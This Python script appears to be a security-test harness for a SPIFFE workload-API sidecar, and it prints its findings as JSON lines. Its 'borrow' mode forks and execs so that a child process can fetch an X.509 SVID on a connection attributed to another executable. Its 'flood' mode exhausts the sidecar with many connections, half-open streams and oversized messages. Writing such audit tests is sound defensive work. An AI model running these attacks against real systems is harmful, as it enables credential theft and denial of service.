"""Raw HTTP/2 over the sidecar's Unix socket, for what no well-behaved gRPC client does. Prints JSON lines.

  borrow SOCKET EXE     connect, wait for the server's SETTINGS, fork; the connecting process execs EXE
                        while its child sends FetchX509SVID on the inherited connection (finding 8)
  flood SOCKET SECONDS  for SECONDS: idle connections, half-open streams and oversized messages, as many
                        as the sidecar lets one uid have; reports what it managed, then exits
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.events

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

FETCH = "/SpiffeWorkloadAPI/FetchX509SVID"


def out(obj) -> None:
    print(json.dumps(obj), flush=True)


def request_headers(path: str = FETCH) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers"), ("workload.spiffe.io", "true")]


def frame(message: bytes, length: int | None = None) -> bytes:
    """One gRPC message: flag, 4-byte length (as given, or the real one), bytes."""
    return struct.pack(">?I", False, len(message) if length is None else length) + message


class Conn:
    def __init__(self, path: str, timeout: float = 10.0):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect(path)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.flush()

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def events(self) -> list:
        data = self.sock.recv(65536)
        if not data:
            raise ConnectionError("closed by the sidecar")
        evs = self.h2.receive_data(data)
        self.flush()
        return evs

    def wait_settings(self) -> None:
        while not any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.events()):
            pass

    def call(self, path: str, body: bytes) -> dict:
        """A unary-request call; the status, message and response messages."""
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, request_headers(path))
        self.h2.send_data(sid, frame(body), end_stream=True)
        self.flush()
        data, headers = b"", {}
        while True:
            for e in self.events():
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    headers.update(dict(e.headers))
                elif isinstance(e, h2.events.DataReceived):
                    data += e.data
                    self.h2.acknowledge_received_data(e.flow_controlled_length, sid)
                    # A stream sends its first state and waits: one whole message is the answer.
                    if len(data) >= 5 and len(data) >= 5 + struct.unpack(">I", data[1:5])[0]:
                        return {"status": 0, "messages": [data[5:]]}
                elif isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                    return {"status": int(headers.get("grpc-status", -1)), "message": headers.get("grpc-message", ""),
                            "messages": []}


def borrow(path: str, exe: str) -> None:
    conn = Conn(path)
    conn.wait_settings()  # the sidecar has accepted this connection
    if os.fork() != 0:
        os.execv(exe, [exe, "5"])  # the connecting process becomes EXE; the socket lives on in the child
    parent = os.getppid()
    deadline = time.monotonic() + 5
    while os.readlink(f"/proc/{parent}/exe") != os.path.realpath(exe):
        if time.monotonic() > deadline:
            out({"event": "error", "error": "the parent did not exec"})
            os._exit(1)
        time.sleep(0.005)
    from tessera.workload import workload_pb2

    result = conn.call(FETCH, b"")
    if result["status"] == 0:
        resp = workload_pb2.X509SVIDResponse.FromString(result["messages"][0])
        out({"event": "svid", "spiffe_ids": [s.spiffe_id for s in resp.svids]})
    else:
        out({"event": "error", "status": result["status"], "message": result["message"]})
    os._exit(0)


def flood(path: str, seconds: float) -> None:
    """Hold as much of the sidecar as one uid can for `seconds`: every connection opens streams that
    never send their request, one stream per connection announces a 1 GiB message and sends what the
    window lets it, and more connections stay idle. Counts what the sidecar accepted and refused."""
    deadline = time.monotonic() + seconds
    conns: list[Conn] = []
    refused_conns = 0
    for _ in range(400):
        if time.monotonic() > deadline - seconds / 2:
            break
        try:
            c = Conn(path, timeout=2)
            conns.append(c)
        except OSError:
            refused_conns += 1
    streams = 0
    big = b"\0" * 16384
    for i, c in enumerate(conns):
        try:
            if i % 2:
                continue  # every other connection stays idle
            for _ in range(100):
                sid = c.h2.get_next_available_stream_id()
                c.h2.send_headers(sid, request_headers())  # half-open: no request follows
                streams += 1
            sid = c.h2.get_next_available_stream_id()
            c.h2.send_headers(sid, request_headers())
            c.h2.send_data(sid, frame(b"", 1 << 30))
            while c.h2.local_flow_control_window(sid) >= len(big):
                c.h2.send_data(sid, big)
            c.flush()
        except Exception:  # noqa: BLE001 - the sidecar closed it or refused more streams: that is the point
            pass
    open_after = 0
    while time.monotonic() < deadline:
        time.sleep(0.2)
    for c in conns:
        try:
            c.sock.setblocking(False)
            if c.sock.recv(1, socket.MSG_PEEK) != b"":
                open_after += 1
        except BlockingIOError:
            open_after += 1
        except OSError:
            pass
    out({"event": "flooded", "connections": len(conns), "refused_connections": refused_conns,
         "streams_sent": streams, "open_at_end": open_after})


def main() -> int:
    mode, path = sys.argv[1], sys.argv[2]
    if mode == "borrow":
        borrow(path, sys.argv[3])
    elif mode == "flood":
        flood(path, float(sys.argv[3]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
